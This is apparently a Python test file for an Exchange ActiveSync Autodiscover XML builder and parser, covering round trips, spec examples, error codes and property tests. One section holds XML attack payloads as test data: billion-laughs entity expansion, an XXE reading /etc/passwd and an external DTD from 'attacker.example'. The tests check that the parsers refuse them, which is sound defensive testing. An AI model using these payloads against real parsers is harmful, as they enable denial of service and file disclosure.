"""Tests of eas.autodiscover: the mobilesync POX request and response documents."""

from __future__ import annotations

import contextlib
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from eas.autodiscover import (
    ERROR_INVALID_REQUEST,
    ERROR_PROVIDER_NOT_FOUND,
    MOBILESYNC_REQUEST_SCHEMA,
    MOBILESYNC_RESPONSE_SCHEMA,
    OUTLOOK_REQUEST_SCHEMA,
    OUTLOOK_RESPONSE_SCHEMA,
    RESPONSE_SCHEMA,
    AutodiscoverError,
    AutodiscoverFault,
    AutodiscoverRequest,
    AutodiscoverResult,
    AutodiscoverSettings,
    build_action_error_response,
    build_error_response,
    build_redirect_response,
    build_request,
    build_response,
    parse_request,
    parse_response,
)

EMAIL = "jane.doe_DoeRealEstate@activesync.onoffice.de"
URL = "https://activesync.onoffice.de/Microsoft-Server-ActiveSync"
REQ_NS = f"{{{MOBILESYNC_REQUEST_SCHEMA}}}"
RESP_NS = f"{{{MOBILESYNC_RESPONSE_SCHEMA}}}"
OUTER_NS = f"{{{RESPONSE_SCHEMA}}}"


def request_body(*requests: str, namespace: str = MOBILESYNC_REQUEST_SCHEMA) -> bytes:
    inner = "".join(f"<Request>{r}</Request>" for r in requests)
    return f'<?xml version="1.0"?><Autodiscover xmlns="{namespace}">{inner}</Autodiscover>'.encode()


def parts(email: str | None = EMAIL, schema: str | None = MOBILESYNC_RESPONSE_SCHEMA) -> str:
    out = "" if email is None else f"<EMailAddress>{email}</EMailAddress>"
    if schema is not None:
        out += f"<AcceptableResponseSchema>{schema}</AcceptableResponseSchema>"
    return out


# -- requests ---------------------------------------------------------------


def test_build_request_has_the_declaration_and_the_spec_structure() -> None:
    body = build_request(EMAIL)
    assert body.startswith(b'<?xml version="1.0" encoding="utf-8"?>\n')
    root = ElementTree.fromstring(body)
    assert root.tag == f"{REQ_NS}Autodiscover"
    (request,) = list(root)
    assert [child.tag for child in request] == [
        f"{REQ_NS}EMailAddress",
        f"{REQ_NS}AcceptableResponseSchema",
    ]
    assert request.findtext(f"{REQ_NS}EMailAddress") == EMAIL
    assert request.findtext(f"{REQ_NS}AcceptableResponseSchema") == MOBILESYNC_RESPONSE_SCHEMA


def test_request_round_trip() -> None:
    assert parse_request(build_request(EMAIL)) == AutodiscoverRequest(
        EMAIL, MOBILESYNC_RESPONSE_SCHEMA, MOBILESYNC_REQUEST_SCHEMA
    )


def test_outlook_request_uses_the_outlook_namespace_and_is_refused_by_default() -> None:
    body = build_request(EMAIL, OUTLOOK_RESPONSE_SCHEMA)
    assert ElementTree.fromstring(body).tag == f"{{{OUTLOOK_REQUEST_SCHEMA}}}Autodiscover"
    with pytest.raises(AutodiscoverError) as caught:
        parse_request(body)
    assert caught.value.kind == "unsupported_schema"
    assert caught.value.error_code == ERROR_PROVIDER_NOT_FOUND
    assert caught.value.schema == OUTLOOK_RESPONSE_SCHEMA
    accepted = parse_request(body, accepted_schemas={OUTLOOK_RESPONSE_SCHEMA})
    assert accepted.request_schema == OUTLOOK_REQUEST_SCHEMA


def test_request_text_is_stripped_and_namespaces_are_not_required() -> None:
    body = (
        b"<Autodiscover><Request>\n  <EMailAddress>\n    jan@example.com\n  </EMailAddress>\n"
        b"  <AcceptableResponseSchema> " + MOBILESYNC_RESPONSE_SCHEMA.encode() + b" "
        b"</AcceptableResponseSchema></Request></Autodiscover>"
    )
    assert parse_request(body) == AutodiscoverRequest(
        "jan@example.com", MOBILESYNC_RESPONSE_SCHEMA, ""
    )


def test_request_schema_override() -> None:
    body = build_request(EMAIL, request_schema="urn:other")
    assert parse_request(body).request_schema == "urn:other"


@pytest.mark.parametrize(
    ("body", "kind", "code"),
    [
        (b"", "not_xml", ERROR_INVALID_REQUEST),
        (b"EMailAddress=jan@example.com", "not_xml", ERROR_INVALID_REQUEST),
        (b"<Autodiscover><Request>", "not_xml", ERROR_INVALID_REQUEST),
        (b"<?xml version='1.0' encoding='bogus'?><a/>", "not_xml", ERROR_INVALID_REQUEST),
        (b"<Discover/>", "not_autodiscover", ERROR_INVALID_REQUEST),
        (request_body(), "no_request", ERROR_INVALID_REQUEST),
        (request_body(parts(), parts()), "multiple_requests", ERROR_INVALID_REQUEST),
        (request_body(parts(email=None)), "missing_email", ERROR_INVALID_REQUEST),
        (request_body(parts(email="  ")), "missing_email", ERROR_INVALID_REQUEST),
        (request_body(parts(schema=None)), "missing_schema", ERROR_INVALID_REQUEST),
        (request_body(parts(schema="")), "missing_schema", ERROR_INVALID_REQUEST),
        (request_body(parts(schema="urn:nope")), "unsupported_schema", ERROR_PROVIDER_NOT_FOUND),
    ],
)
def test_refused_requests(body: bytes, kind: str, code: int) -> None:
    with pytest.raises(AutodiscoverError) as caught:
        parse_request(body)
    assert caught.value.kind == kind
    assert caught.value.error_code == code


def test_missing_email_is_reported_before_a_wrong_schema_as_zpush_checks() -> None:
    with pytest.raises(AutodiscoverError, match="EMailAddress"):
        parse_request(request_body(parts(email=None, schema="urn:nope")))


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<Autodiscover><Request><EMailAddress>&lol3;</EMailAddress></Request></Autodiscover>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE Autodiscover [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Autodiscover><Request><EMailAddress>&xxe;</EMailAddress></Request></Autodiscover>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE Autodiscover SYSTEM "http://attacker.example/evil.dtd">
<Autodiscover><Request><EMailAddress>a@b.c</EMailAddress></Request></Autodiscover>"""

PLAIN_DTD = b"""<?xml version="1.0"?><!DOCTYPE Autodiscover>""" + request_body(parts())[21:]


@pytest.mark.parametrize("body", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PLAIN_DTD])
def test_unsafe_xml_is_refused_by_request_and_response_parsers(body: bytes) -> None:
    for parse in (parse_request, parse_response):
        with pytest.raises(AutodiscoverError) as caught:
            parse(body)
        assert caught.value.kind == "unsafe_xml"


# -- responses --------------------------------------------------------------

SETTINGS = AutodiscoverSettings("Jane Doe", EMAIL, URL)


def test_build_response_has_the_spec_structure() -> None:
    root = ElementTree.fromstring(build_response(SETTINGS))
    assert root.tag == f"{OUTER_NS}Autodiscover"
    response = root.find(f"{RESP_NS}Response")
    assert response is not None
    assert response.findtext(f"{RESP_NS}Culture") == "en:us"
    assert response.findtext(f"{RESP_NS}User/{RESP_NS}DisplayName") == "Jane Doe"
    assert response.findtext(f"{RESP_NS}User/{RESP_NS}EMailAddress") == EMAIL
    server = response.find(f"{RESP_NS}Action/{RESP_NS}Settings/{RESP_NS}Server")
    assert server is not None
    assert [(child.tag, child.text) for child in server] == [
        (f"{RESP_NS}Type", "MobileSync"),
        (f"{RESP_NS}Url", URL),
        (f"{RESP_NS}Name", URL),
    ]


def test_settings_round_trip_and_optional_display_name() -> None:
    assert parse_response(build_response(SETTINGS)) == AutodiscoverResult(settings=SETTINGS)
    anonymous = AutodiscoverSettings("", EMAIL, URL, culture="de:de")
    body = build_response(anonymous)
    assert b"DisplayName" not in body
    assert parse_response(body).settings == anonymous


def test_redirect_round_trip() -> None:
    result = parse_response(build_redirect_response("jane@other.example"))
    assert result == AutodiscoverResult(redirect="jane@other.example")
    assert result.kind == "redirect"


def test_error_response_follows_the_response_schema() -> None:
    body = build_error_response(600, "Invalid Request", time="16:56:32.6164027", error_id=7)
    root = ElementTree.fromstring(body)
    error = root.find(f"{OUTER_NS}Response/{OUTER_NS}Error")
    assert error is not None
    assert error.attrib == {"Time": "16:56:32.6164027", "Id": "7"}
    assert error.findtext(f"{OUTER_NS}ErrorCode") == "600"
    result = parse_response(body)
    assert result.kind == "error"
    assert result.error == AutodiscoverFault(600, None, "Invalid Request", "")


def test_error_response_without_time_or_id_has_no_attributes() -> None:
    body = build_error_response(601, "Provider could not be found", "schema x")
    assert b"Time=" not in body and b"Id=" not in body
    assert parse_response(body).error == AutodiscoverFault(
        601, None, "Provider could not be found", "schema x"
    )


def test_action_error_round_trip() -> None:
    body = build_action_error_response(
        2, "The directory service could not be reached", "MailUser", email=EMAIL
    )
    assert parse_response(body).error == AutodiscoverFault(
        None, 2, "The directory service could not be reached", "MailUser"
    )


def test_spec_server_settings_example_with_whitespace_and_certenroll() -> None:
    # MS-ASCMD 4.2.4: two servers, the URL wrapped in whitespace.
    body = f"""<?xml version="1.0" encoding="utf-8"?>
<Autodiscover xmlns="{RESPONSE_SCHEMA}">
 <Response xmlns="{MOBILESYNC_RESPONSE_SCHEMA}">
  <Culture>en:us</Culture>
  <User><DisplayName>Chris Gray</DisplayName>
   <EMailAddress>chris@woodgrovebank.com</EMailAddress></User>
  <Action><Settings>
   <Server><Type>CertEnroll</Type><Url>https://cert.woodgrovebank.com/CertEnroll</Url><Name />
    <ServerData>CertEnrollTemplate</ServerData></Server>
   <Server><Type>MobileSync</Type>
    <Url>
      https://loandept.woodgrovebank.com/Microsoft-Server-ActiveSync
    </Url>
    <Name>https://loandept.woodgrovebank.com/Microsoft-Server-ActiveSync</Name></Server>
  </Settings></Action>
 </Response>
</Autodiscover>""".encode()
    assert parse_response(body).settings == AutodiscoverSettings(
        "Chris Gray",
        "chris@woodgrovebank.com",
        "https://loandept.woodgrovebank.com/Microsoft-Server-ActiveSync",
    )


def test_spec_error_example_with_error_under_a_mobilesync_response() -> None:
    # MS-ASCMD 4.2.x places Response/Error in the mobilesync namespace.
    body = f"""<?xml version="1.0" encoding="utf-8"?>
<Autodiscover xmlns="{RESPONSE_SCHEMA}"><Response xmlns="{MOBILESYNC_RESPONSE_SCHEMA}">
<Error Time="16:56:32.6164027" Id="1054084152"><ErrorCode>600</ErrorCode>
<Message>Invalid Request</Message><DebugData /></Error></Response></Autodiscover>""".encode()
    assert parse_response(body).error == AutodiscoverFault(600, None, "Invalid Request", "")


def test_server_without_url_falls_back_to_name() -> None:
    body = build_response(SETTINGS).replace(b"<Url>" + URL.encode() + b"</Url>", b"")
    assert parse_response(body).settings == SETTINGS


@pytest.mark.parametrize(
    "body",
    [
        b"<Autodiscover/>",
        f'<Autodiscover xmlns="{RESPONSE_SCHEMA}"><Response/><Response/></Autodiscover>'.encode(),
        f'<Autodiscover><Response xmlns="{MOBILESYNC_RESPONSE_SCHEMA}"/></Autodiscover>'.encode(),
        b"<Autodiscover><Response><Action/></Response></Autodiscover>",
        b"<Autodiscover><Response><Action><Redirect> </Redirect></Action></Response>"
        b"</Autodiscover>",
        build_response(SETTINGS).replace(b"MobileSync</Type>", b"CertEnroll</Type>"),
        build_response(SETTINGS)
        .replace(b"<Url>" + URL.encode() + b"</Url>", b"")
        .replace(b"<Name>" + URL.encode() + b"</Name>", b""),
        # Outlook's 2006a answer has no mobilesync Action.
        f'<Autodiscover xmlns="{RESPONSE_SCHEMA}"><Response xmlns="{OUTLOOK_RESPONSE_SCHEMA}">'
        "<Account><Action>redirectAddr</Action><RedirectAddr>a@b.c</RedirectAddr></Account>"
        "</Response></Autodiscover>".encode(),
    ],
)
def test_unusable_responses_raise(body: bytes) -> None:
    with pytest.raises(AutodiscoverError) as caught:
        parse_response(body)
    assert caught.value.kind == "unexpected_response"


def test_non_numeric_codes_are_kept_as_none() -> None:
    body = build_error_response(600, "m").replace(b">600<", b">six hundred<")
    assert parse_response(body).error == AutodiscoverFault(None, None, "m", "")


def test_result_holds_exactly_one_outcome() -> None:
    with pytest.raises(ValueError, match="exactly one"):
        AutodiscoverResult()
    with pytest.raises(ValueError, match="exactly one"):
        AutodiscoverResult(settings=SETTINGS, redirect="a@b.c")


def test_line_breaks_survive_xml_end_of_line_handling() -> None:
    # XML 1.0 section 2.11 turns a literal CR LF into LF; escaping keeps the CR.
    settings = AutodiscoverSettings("Doe\r\nImmobilien", EMAIL, URL)
    assert parse_response(build_response(settings)).settings == settings
    body = build_error_response(600, "m", time="a\tb\nc")
    error = ElementTree.fromstring(body).find(f"{OUTER_NS}Response/{OUTER_NS}Error")
    assert error is not None and error.get("Time") == "a\tb\nc"


def test_markup_in_values_is_escaped_and_control_characters_refused() -> None:
    tricky = AutodiscoverSettings('A & B <"Makler">', "a&b@example.com", URL + "?a=1&b=2")
    assert parse_response(build_response(tricky)).settings == tricky
    assert parse_request(build_request("x<y>&z@example.com")).email_address == "x<y>&z@example.com"
    with pytest.raises(ValueError, match=r"XML 1\.0"):
        build_request("bell\x07@example.com")
    with pytest.raises(ValueError, match=r"XML 1\.0"):
        build_error_response(600, "m", time="\x00")


# -- property tests ---------------------------------------------------------

# Stripped, XML-representable text (the parsers strip surrounding whitespace).
_xml_char = st.characters(codec="utf-8", exclude_categories=["Cc", "Cs"]) | st.sampled_from(
    "\t\n\r"
)
_value = st.text(_xml_char, min_size=1, max_size=40).map(str.strip).filter(bool)


@given(_value)
def test_request_round_trip_property(email: str) -> None:
    assert parse_request(build_request(email)).email_address == email


@given(st.text(_xml_char, max_size=30).map(str.strip), _value, _value, _value)
def test_settings_round_trip_property(name: str, email: str, url: str, culture: str) -> None:
    settings = AutodiscoverSettings(name, email, url, culture)
    assert parse_response(build_response(settings)).settings == settings


@given(st.integers(-(10**9) + 1, 10**9 - 1), _value, st.text(_xml_char, max_size=30).map(str.strip))
def test_error_round_trip_property(code: int, message: str, debug: str) -> None:
    fault = parse_response(build_error_response(code, message, debug)).error
    assert fault == AutodiscoverFault(code, None, message, debug)


@given(st.binary(max_size=200))
def test_random_bytes_raise_only_autodiscover_error(body: bytes) -> None:
    with contextlib.suppress(AutodiscoverError):
        parse_request(body)
    with contextlib.suppress(AutodiscoverError):
        parse_response(body)


@given(st.text(max_size=200))
def test_random_text_raises_only_autodiscover_error(text: str) -> None:
    body = text.encode("utf-8", "surrogatepass")
    with contextlib.suppress(AutodiscoverError):
        parse_request(body)
    with contextlib.suppress(AutodiscoverError):
        parse_response(body)
